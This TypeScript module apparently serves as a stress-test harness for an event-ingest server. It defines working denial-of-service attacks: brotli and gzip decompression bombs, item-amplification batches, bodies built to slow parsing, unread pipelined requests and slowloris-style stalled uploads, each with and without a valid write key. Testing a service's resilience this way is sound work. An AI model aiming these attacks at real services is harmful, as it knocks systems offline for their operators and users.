import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';

/** One attack on an ingest: goes on until `signal` aborts. */
export type Attack = (url: URL, signal: AbortSignal) => Promise<void>;

const WRITE_KEY = 'attacker-write-key';

/** How the attacker says who it is. */
interface Sender {
  readonly headers: Readonly<Record<string, string>>;
  /** At the end of each body, where it is found last. */
  readonly writeKey?: string;
}

const BY_HEADER: Sender = {
  headers: { authorization: `Basic ${Buffer.from(`${WRITE_KEY}:`).toString('base64')}` },
};
const BY_BODY: Sender = { headers: {}, writeKey: WRITE_KEY };
const NOBODY: Sender = { headers: {}, writeKey: 'guessed-write-key' };

/** So many at a time, each again and again. */
const repeat = async (
  many: number,
  signal: AbortSignal,
  work: (index: number) => Promise<void>,
): Promise<void> => {
  const worker = async (index: number): Promise<void> => {
    while (!signal.aborted) await work(index).catch(() => (signal.aborted ? undefined : sleep(20)));
  };
  await Promise.all(Array.from({ length: many }, (_, index) => worker(index)));
};

/** What is posted, again and again. */
interface Posts {
  readonly many: number;
  readonly bodies: readonly Buffer[];
  readonly headers: Readonly<Record<string, string>>;
}

const post = (url: URL, body: Buffer, { headers }: Posts, agent: Agent): Promise<void> => {
  const { promise, resolve, reject } = Promise.withResolvers<void>();
  const own = { 'content-type': 'application/json', 'content-length': body.length };
  const options = { method: 'POST', agent, headers: { ...own, ...headers } };
  request(new URL('/v1/batch', url), options, (response) => {
    response.resume().on('end', resolve).on('error', reject);
  })
    .on('error', reject)
    .end(body);
  return promise;
};

const postAgain = async (url: URL, signal: AbortSignal, posts: Posts): Promise<void> => {
  const { many, bodies } = posts;
  const agent = new Agent({ keepAlive: true, maxSockets: many });
  signal.addEventListener('abort', () => agent.destroy());
  await repeat(many, signal, (index) => post(url, bodies[index % bodies.length] as Buffer, posts, agent));
};

/** A few bytes that a decompressor needs megabytes for. */
const brotli =
  ({ headers }: Sender): Attack =>
  (url, signal) => {
    const params = { [constants.BROTLI_PARAM_LGWIN]: 24 };
    const bodies = [brotliCompressSync(Buffer.alloc(100_000_000, 'a'), { params })];
    return postAgain(url, signal, { many: 40, bodies, headers: { ...headers, 'content-encoding': 'br' } });
  };

const gzipped = (content: string, { writeKey }: Sender): Buffer =>
  gzipSync(`{${content}${writeKey === undefined ? '' : `,"writeKey":"${writeKey}"`}}`);

/** A few bytes that become thousands of items, bad ones and good ones. */
const items =
  (sender: Sender): Attack =>
  (url, signal) => {
    const batch = (many: number, item: string): Buffer =>
      gzipped(`"batch":[${Array(many).fill(item).join(',')}]`, sender);
    const bodies = [batch(12_500, '0'), batch(11_890, '{"type":"track","userId":"u","event":"e"}')];
    const headers = { ...sender.headers, 'content-encoding': 'gzip' };
    return postAgain(url, signal, { many: 60, bodies, headers });
  };

/** A few bytes in which it takes long to find the write key: names that begin like it, blanks, one long text. */
const haystacks =
  (sender: Sender): Attack =>
  (url, signal) => {
    const bodies = [
      gzipped(Array(26_000).fill('"\\u0077ritekey":1').join(','), sender),
      gzipped(`"a":1${' '.repeat(499_000)}`, sender),
      gzipped(`"a":"${'a'.repeat(499_000)}"`, sender),
    ];
    const headers = { ...sender.headers, 'content-encoding': 'gzip' };
    return postAgain(url, signal, { many: 60, bodies, headers });
  };

/** Sends, never reads, and begins again after so many milliseconds. */
const unread = async (url: URL, signal: AbortSignal, bytes: Buffer, ms: number): Promise<void> => {
  const socket = connect(Number(url.port), url.hostname)
    .pause()
    .on('error', () => undefined);
  socket.write(bytes);
  await sleep(ms, undefined, { signal }).finally(() => socket.destroy());
};

/** Many requests in one go whose answers nobody reads. */
const pipelined: Attack = (url, signal) => {
  const bytes = Buffer.from('GET /v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(1_500));
  return repeat(20, signal, () => unread(url, signal, bytes, 5_000));
};

/** Bodies that are announced and never come. */
const slow =
  ({ headers }: Sender): Attack =>
  (url, signal) => {
    const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
    const head = `POST /v1/batch HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${lines.join('')}`;
    const bytes = Buffer.from(`${head}Content-Length: 500000\r\n\r\n{`);
    return repeat(66, signal, () => unread(url, signal, bytes, 30_000));
  };

/** The attacks by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  brotli: brotli(BY_HEADER),
  items: items(BY_HEADER),
  pipelined,
  slow: slow(BY_HEADER),
  itemsByBody: items(BY_BODY),
  haystacks: haystacks(BY_HEADER),
  brotliOfNobody: brotli(NOBODY),
  itemsOfNobody: items(NOBODY),
  haystacksOfNobody: haystacks(NOBODY),
  slowOfNobody: slow(NOBODY),
};
